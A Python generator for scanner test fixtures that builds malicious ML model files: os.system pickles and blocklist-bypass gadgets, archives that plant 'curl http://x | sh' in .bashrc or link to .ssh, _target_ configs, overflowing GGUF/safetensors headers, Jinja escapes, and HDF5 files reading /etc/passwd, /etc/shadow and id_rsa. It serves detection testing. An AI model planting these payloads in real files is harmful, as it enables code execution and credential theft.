"""Writes testdata/threats: one fixture (or a few) per published technique of
docs/threats.md, which names each file in its Proof column. scan/threats_test.go
scans every fixture the table names and checks it gets the row's rule.

Run it with make_threats.sh (the environment pins reproducible bytes). It needs
Debian's python3 (pickle, zipfile, tarfile: the standard library writes the
pickles, archives and configs as loaders read them), python3-omegaconf for
the DictConfig checkpoint and python3-h5py for the HDF5 files (written by the
HDF5 library, times off); the PyTorch file it cuts short is the committed
testdata/models/benign/pytorch/checkpoint.pt, read as a zip, never loaded.
GGUF and safetensors headers are written byte for byte from their
specifications.

Nothing here loads or executes a fixture: payloads are written with Reduce
(pickling a reference to os.system does not call it) or as raw opcodes.
"""

import functools
import io
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile
import zipfile

from common import COMMAND, EPOCH, MODELS, Reduce

ROOT = os.path.normpath(os.path.join(MODELS, "..", "threats"))
ZIP_TIME = (1980, 1, 1, 0, 0, 0)


def put(rel, data):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    assert len(data) < 64 << 10, (rel, len(data))


def call_global(module, name, arg=COMMAND, proto=2):
    """A stream that imports module.name and calls it with one string, as
    pickle writes a Reduce of it (raw opcodes: the module may not exist here)."""
    s = arg.encode()
    return (b"\x80" + bytes([proto]) + b"c" + module.encode() + b"\n" + name.encode() + b"\n"
            + b"X" + struct.pack("<I", len(s)) + s + b"\x85R.")


def zip_bytes(members):
    """A zip of (ZipInfo or name, data) pairs, STORED, with fixed times."""
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        for info, data in members:
            if isinstance(info, str):
                info = zipfile.ZipInfo(info, ZIP_TIME)
            z.writestr(info, data)
    return b.getvalue()


def tar_bytes(members):
    """A tar of (TarInfo, data or None) pairs, PAX, fixed times."""
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.PAX_FORMAT) as t:
        for ti, data in members:
            ti.mtime, ti.uid, ti.gid, ti.uname, ti.gname = EPOCH, 0, 0, "", ""
            if data is not None:
                ti.size = len(data)
            t.addfile(ti, io.BytesIO(data) if data is not None else None)
    return b.getvalue()


def tar_member(name, data=None, kind=tarfile.REGTYPE, link=""):
    ti = tarfile.TarInfo(name)
    ti.type, ti.linkname, ti.mode = kind, link, 0o644
    return ti, data


def rewrite_torch_zip(src, data_pkl):
    """The zip of a real torch.save file, member for member, with data.pkl
    replaced by data_pkl(original bytes)."""
    members = []
    with zipfile.ZipFile(src) as z:
        for info in z.infolist():
            data = z.read(info.filename)
            if info.filename.endswith("/data.pkl"):
                data = data_pkl(data)
            members.append((zipfile.ZipInfo(info.filename, ZIP_TIME), data))
    return zip_bytes(members)


# ---------------------------------------------------------------------------
# Pickles.

def pickles():
    put("pickle/reduce_os_system.pkl", pickle.dumps(Reduce(os.system, COMMAND), protocol=2))
    put("pickle/named_as_text.txt", pickle.dumps(Reduce(os.system, COMMAND), protocol=4))
    # Gadgets that picklescan's blocklist missed until its 2025 advisories.
    for module, name in [("pip", "main"), ("timeit", "timeit"), ("cProfile", "run"),
                         ("pydoc", "pipepager"), ("ensurepip", "_run_pip"), ("pkgutil", "resolve_name"),
                         ("uuid", "_get_command_stdout"), ("_io", "FileIO"), ("torch.utils.bottleneck.__main__", "run_cprofile")]:
        put(f"pickle/blocklist/{module}.{name}.pkl", call_global(module, name))
    # A zip whose local header names another member than its central
    # directory: a scanner that trusts one view misses what the other holds.
    z = zip_bytes([("archive/data.pkl", pickle.dumps(Reduce(os.system, COMMAND), protocol=2))])
    put("pickle/zip_name_mismatch.pt", z.replace(b"archive/data.pkl", b"archive/data.pkX", 1))
    # A helper that calls what it is given.
    put("pickle/partial_os_system.pkl",
        pickle.dumps(Reduce(functools.partial(os.system, COMMAND)), protocol=2))
    # nullifAI: the payload, then a broken stream, inside a PyTorch zip.
    broken = pickle.dumps(Reduce(os.system, COMMAND), protocol=2)[:-1] + b"\xff"
    put("pickle/payload_then_broken.pt",
        rewrite_torch_zip(os.path.join(MODELS, "benign/pytorch/checkpoint.pt"), lambda _: broken))
    # An opcode's argument runs past the end of its protocol 4 frame.
    ops = b"\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R"
    k, n = 5, 20
    frame = b"}X" + struct.pack("<I", n) + b"T" * k
    put("pickle/frame_straddle.pkl", b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame
        + b"a" * (n - k) + b"B" + struct.pack("<I", len(ops)) + ops + b".")
    # A protocol 4 stream cut short in its frame: no STOP.
    body = b"\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R"
    put("pickle/truncated_frame.joblib", b"\x80\x04\x95" + struct.pack("<Q", len(body) + 40) + body)


# ---------------------------------------------------------------------------
# Archives that write outside their folder.

def archives():
    put("archive/dotdot.tar", tar_member_bytes("../../home/user/.bashrc", b"curl http://x | sh\n"))
    put("archive/absolute.zip", zip_bytes([("/etc/cron.d/violet", b"* * * * * root id\n")]))
    put("archive/symlink_out.tar", tar_bytes([tar_member("model/ssh", kind=tarfile.SYMTYPE, link="../../../root/.ssh")]))
    put("archive/hardlink_out.tar", tar_bytes([tar_member("model/passwd", kind=tarfile.LNKTYPE, link="../etc/passwd")]))
    link = zipfile.ZipInfo("model/ssh", ZIP_TIME)
    link.create_system = 3  # Unix
    link.external_attr = (0o120777 << 16)  # S_IFLNK | 0777
    put("archive/symlink_out.zip", zip_bytes([(link, b"../../../root/.ssh/authorized_keys")]))


def tar_member_bytes(name, data):
    return tar_bytes([tar_member(name, data)])


# ---------------------------------------------------------------------------
# Configurations that instantiate.

def configs():
    put("config/nemo_target.nemo", tar_bytes([
        tar_member("./model_config.yaml", b"name: asr\nencoder:\n  _target_: os.system\n  command: id\n"),
        tar_member("./model_weights.ckpt", pickle.dumps({"state_dict": {}}, protocol=2)),
    ]))
    put("config/config.json", json.dumps({"model": {"_target_": "builtins.exec", "source": "import os"}}, indent=2).encode())
    header = json.dumps({"__metadata__": {"format": "pt", "config": json.dumps({"_target_": "subprocess.run", "args": ["id"]})}},
                        separators=(",", ":")).encode()
    header += b" " * (-len(header) % 8)
    put("config/metadata_target.safetensors", struct.pack("<Q", len(header)) + header)
    put("config/hparams_target.ckpt", pickle.dumps(
        {"state_dict": {}, "hyper_parameters": {"_target_": "subprocess.run", "args": ["id"]}}, protocol=4))
    try:
        from omegaconf import OmegaConf
    except ImportError:
        sys.exit("python3-omegaconf is needed (apt-get install python3-omegaconf)")
    put("config/dictconfig_target.ckpt", pickle.dumps(
        {"state_dict": {}, "hyper_parameters": OmegaConf.create({"_target_": "os.system", "command": "id"})}, protocol=2))


# ---------------------------------------------------------------------------
# Files named as models that no format reads.

def unreadable():
    put("unreadable/cut_data_pkl.pt",
        rewrite_torch_zip(os.path.join(MODELS, "benign/pytorch/checkpoint.pt"), lambda d: d[: len(d) // 2]))
    put("unreadable/absurd_header.safetensors", b"\xff" * 7 + b"\x7f" + b'{"a":1}')
    put("unreadable/not_json.safetensors", struct.pack("<Q", 8) + b"not json")


# ---------------------------------------------------------------------------
# Headers that corrupt a loader's memory, byte for byte from the specs.

GGUF_STRING, GGUF_F32 = 8, 0


def gguf(tensors, n_tensors=None, alignment=32):
    """GGUF v3: magic, version, counts, one KV (general.architecture), then
    tensor infos (name, dims, type, offset); tensors = [(name, dims, type, offset)]."""
    def s(x):
        return struct.pack("<Q", len(x)) + x.encode()
    b = b"GGUF" + struct.pack("<I", 3)
    b += struct.pack("<QQ", len(tensors) if n_tensors is None else n_tensors, 1)
    b += s("general.architecture") + struct.pack("<I", GGUF_STRING) + s("llama")
    for name, dims, typ, off in tensors:
        b += s(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        b += struct.pack("<IQ", typ, off)
    b += b"\0" * (-len(b) % alignment)
    return b + b"\0" * 64


def safetensors(header):
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h


def memory():
    put("gguf/tensor_count_overflow.gguf", gguf([], n_tensors=1 << 62))
    put("gguf/element_size_wrap.gguf", gguf([("w", [1 << 32, 1 << 32, 1 << 2], GGUF_F32, 0)]))
    put("gguf/duplicate_tensor.gguf", gguf([("w", [4], GGUF_F32, 0), ("w", [4], GGUF_F32, 32)]))
    put("safetensors/shape_overflow.safetensors",
        safetensors({"w": {"dtype": "F32", "shape": [1 << 32, 1 << 32, 4], "data_offsets": [0, 0]}}))
    put("safetensors/offsets_past_end.safetensors",
        safetensors({"w": {"dtype": "F32", "shape": [1 << 20], "data_offsets": [0, 4 << 20]}}))


# ---------------------------------------------------------------------------
# PyTorch zip checkpoints whose storages reach past their records
# (CVE-2026-24747, GHSA-63cw-57p8-fm3p): torch.load before 2.10.0 allocates a
# storage of its declared size over the shorter record.

def torch_zip(numel, record, offset=0):
    """A torch.save zip of {'weight': a 2x2 float tensor}: data.pkl written
    opcode by opcode as torch.save writes it (_rebuild_tensor_v2 of
    persistent_load(('storage', torch.FloatStorage, '0', 'cpu', numel)),
    at the storage offset), and the record archive/data/0 of record bytes."""
    def u(s):
        return b"X" + struct.pack("<I", len(s)) + s.encode()
    pkl = (b"\x80\x02ccollections\nOrderedDict\n)R" + u("weight")
           + b"ctorch._utils\n_rebuild_tensor_v2\n((" + u("storage") + b"ctorch\nFloatStorage\n"
           + u("0") + u("cpu") + b"J" + struct.pack("<i", numel) + b"tQJ" + struct.pack("<i", offset)
           + b"K\x02K\x02\x86K\x02K\x01\x86\x89ccollections\nOrderedDict\n)RtRs.")
    return zip_bytes([("archive/data.pkl", pkl), ("archive/byteorder", b"little"),
                      ("archive/data/0", b"\0" * record), ("archive/version", b"3\n")])


def storages():
    # A million floats declared over a record of 16 bytes.
    put("pytorch/storage_past_record.pt", torch_zip(1 << 20, 16))
    # An honest storage of four floats, and a view at offset 2 that reaches
    # its sixth element.
    put("pytorch/view_past_record.pt", torch_zip(4, 16, offset=2))


# ---------------------------------------------------------------------------
# Chat templates and remote code.

def templates():
    put("template/concat_attr.jinja",
        b"{% set c = ''|attr('__cla' ~ 'ss__') %}{{ c|attr('__ba' ~ 'se__')|attr('__subcl' ~ 'asses__')() }}\n")
    put("template/format_string.jinja",
        b"{{ '{0.__init__.__globals__[os].popen}'.format(cycler) }}\n")
    put("hf-remote-code/cross_repo/config.json", json.dumps({
        "architectures": ["EvilModel"], "model_type": "evil",
        "auto_map": {"AutoModel": "attacker/other-repo--modeling_evil.EvilModel"}}, indent=2).encode())

# ---------------------------------------------------------------------------
# HDF5 weights that make h5py read other files (CVE-2026-1669). Written by
# the HDF5 library through h5py (python3-h5py: h5py 3.7.0, HDF5 1.10.8), with
# every object's times off so that the bytes do not depend on the clock.

def h5_bytes(build, latest=False):
    """An HDF5 file that build(f, h5py) fills, in the earliest file format
    (superblock 0, symbol tables) or the latest (superblock 3, object
    headers version 2, link messages). Nothing is read back."""
    import tempfile
    try:
        import h5py
    except ImportError:
        sys.exit("python3-h5py is needed (apt-get install python3-h5py)")
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "f.h5")
        fcpl = h5py.h5p.create(h5py.h5p.FILE_CREATE)
        fcpl.set_obj_track_times(False)
        fapl = h5py.h5p.create(h5py.h5p.FILE_ACCESS)
        if latest:
            fapl.set_libver_bounds(h5py.h5f.LIBVER_LATEST, h5py.h5f.LIBVER_LATEST)
        fid = h5py.h5f.create(path.encode(), h5py.h5f.ACC_TRUNC, fcpl=fcpl, fapl=fapl)
        with h5py.File(fid) as f:
            build(f, h5py)
        with open(path, "rb") as r:
            return r.read()


def h5_group(f, h5py, path):
    """The group at path, created with its parents (times off) where missing."""
    gcpl = h5py.h5p.create(h5py.h5p.GROUP_CREATE)
    gcpl.set_obj_track_times(False)
    g = f
    for part in path.split("/"):
        g = g[part] if part in g else h5py.Group(h5py.h5g.create(g.id, part.encode(), gcpl=gcpl))
    return g


def h5_virtual(g, h5py, name, shape, mappings):
    """A float32 virtual dataset: mappings are (virtual (start, count),
    source file, source dataset, source shape, source (start, count))."""
    import numpy as np
    dcpl = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    dcpl.set_obj_track_times(False)
    for (vstart, vcount), file, dataset, src_shape, (sstart, scount) in mappings:
        vspace = h5py.h5s.create_simple(shape)
        vspace.select_hyperslab(vstart, vcount)
        sspace = h5py.h5s.create_simple(src_shape)
        sspace.select_hyperslab(sstart, scount)
        dcpl.set_virtual(vspace, file.encode(), dataset.encode(), sspace)
    tid = h5py.h5t.py_create(np.dtype(np.float32), logical=1)
    h5py.h5d.create(g.id, name.encode(), tid, h5py.h5s.create_simple(shape), dcpl=dcpl)


# A file the victim can read: another model on the same machine.
OTHER_H5 = "/srv/models/private.weights.h5"


def keras3_weights(f, h5py, kernel):
    """The groups of a Keras 3 model.weights.h5 (Sequential of Dense(8) on 4
    inputs); kernel(group) writes the dense layer's kernel, "0"."""
    import numpy as np
    h5_group(f, h5py, "vars")
    g = h5_group(f, h5py, "layers/dense/vars")
    kernel(g)
    g.create_dataset("1", data=np.zeros(8, np.float32), track_times=False)
    h5_group(f, h5py, "optimizer/vars")


def hdf5_external():
    import numpy as np
    all4x8 = ((0, 0), (4, 8))

    def external_storage(g):
        # External Data Files message: the kernel's 128 bytes are read from /etc/passwd.
        g.create_dataset("0", shape=(4, 8), dtype=np.float32, external=[("/etc/passwd", 0, 128)], track_times=False)

    def external_pieces(g):
        # Two external files: a relative name that climbs out, and a key.
        g.create_dataset("0", shape=(4, 8), dtype=np.float32, track_times=False,
                         external=[("../../.ssh/id_rsa", 0, 64), ("/etc/shadow", 16, 64)])

    def external_link(f, h5py):
        keras3_weights(f, h5py, lambda g: g.create_dataset("0", data=np.zeros((4, 8), np.float32), track_times=False))
        # A link message of type 64: h5py follows it into another file.
        f["layers/dense_1"] = h5py.ExternalLink(OTHER_H5, "/layers/dense/vars")

    def virtual_dataset(f, h5py):
        keras3_weights(f, h5py, lambda g: h5_virtual(g, h5py, "0", (4, 8), [
            (all4x8, OTHER_H5, "/layers/dense/vars/0", (4, 8), all4x8)]))

    def virtual_pieces(f, h5py):
        # Rows from two other files and from this one ("."), as hyperslabs.
        keras3_weights(f, h5py, lambda g: h5_virtual(g, h5py, "0", (4, 8), [
            (((0, 0), (2, 8)), OTHER_H5, "/layers/dense/vars/0", (4, 8), ((0, 0), (2, 8))),
            (((2, 0), (1, 8)), "../../.keras/models/cached.h5", "/w", (4, 8), ((3, 0), (1, 8))),
            (((3, 0), (1, 8)), ".", "/layers/dense/vars/1", (8,), ((0,), (8,)))]))

    def many_links(f, h5py):
        # More objects that read other files than Violet reports one by one.
        for i in range(120):
            f["l%03d" % i] = h5py.ExternalLink(OTHER_H5, "/layers/dense/vars")

    def same_file(f, h5py):
        # A virtual dataset whose only source is the file itself.
        def kernel(g):
            g.create_dataset("plain", data=np.zeros((4, 8), np.float32), track_times=False)
            h5_virtual(g, h5py, "0", (4, 8), [(all4x8, ".", "/layers/dense/vars/plain", (4, 8), all4x8)])
        keras3_weights(f, h5py, kernel)

    storage = h5_bytes(lambda f, h5py: keras3_weights(f, h5py, external_storage))
    put("hdf5/external-storage.weights.h5", storage)
    put("hdf5/external-storage-latest.weights.h5",
        h5_bytes(lambda f, h5py: keras3_weights(f, h5py, external_pieces), latest=True))
    put("hdf5/external-link.weights.h5", h5_bytes(external_link))
    put("hdf5/external-link-latest.weights.h5", h5_bytes(external_link, latest=True))
    put("hdf5/virtual-dataset.weights.h5", h5_bytes(virtual_dataset))
    put("hdf5/virtual-dataset-latest.weights.h5", h5_bytes(virtual_pieces, latest=True))
    put("hdf5/many-external-links.h5", h5_bytes(many_links, latest=True))
    # A .keras archive: the benign model's config, weights with external storage.
    with zipfile.ZipFile(os.path.join(MODELS, "..", "formats", "benign", "keras", "dense.keras")) as z:
        meta, config = z.read("metadata.json"), z.read("config.json")
    put("hdf5/external-storage.keras",
        zip_bytes([("metadata.json", meta), ("config.json", config), ("model.weights.h5", storage)]))
    # The benign twin, for analyzer/kerash5's tests (it reads nothing outside
    # the file, so it is no threat and is not kept here).
    with open(os.path.join(MODELS, "..", "..", "analyzer", "kerash5", "testdata", "same-file-virtual.weights.h5"), "wb") as w:
        w.write(h5_bytes(same_file, latest=True))


def main():
    if os.path.isdir(ROOT):
        shutil.rmtree(ROOT)
    pickles()
    archives()
    configs()
    unreadable()
    memory()
    storages()
    templates()
    hdf5_external()
    with open(os.path.join(ROOT, "README.md"), "w") as f:
        f.write(README)


README = """# testdata/threats

One fixture (or a few) per published technique of [docs/threats.md](../../docs/threats.md), whose Proof column names
each file; `scan/threats_test.go` scans every file the table names and checks that it gets one of the row's rules and
a failing exit code. Made by `testdata/gen/make_threats.sh` (`gen_threats.py`); never edit by hand, never load: every
pickle here runs a command when loaded.
"""

if __name__ == "__main__":
    main()
